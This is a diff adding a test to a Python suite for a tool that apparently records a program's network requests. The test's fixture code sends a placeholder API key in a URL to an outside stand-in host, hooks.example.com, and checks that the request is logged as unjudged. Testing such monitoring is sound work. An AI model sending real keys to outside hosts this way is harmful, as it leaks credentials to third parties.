@@ -271,6 +271,20 @@ def test_the_report_for_a_person(verify: Verify) -> None:
     assert "prove" not in done.report
 
 
+def test_a_request_to_another_host_is_listed(verify: Verify) -> None:
+    other = """
+try:
+    urllib.request.urlopen("https://hooks.example.com/x?api_key=sk-proj-abcdefghijklmnop")
+except urllib.error.HTTPError as error:
+    print(error.code)
+"""
+    done = verify(migrated(PLAIN) + other)
+    assert done.code == 0
+    entry = done.json["requests"][-1]
+    assert (entry["verdict"], entry["after"]["host"]) == ("not judged", "hooks.example.com")
+    assert done.printed.endswith("403\n")
+
+
 WRONG_USE = [
     (["verify"], "COMMAND"),
     (["verify", "--", "no-such-program"], "no-such-program cannot be run"),
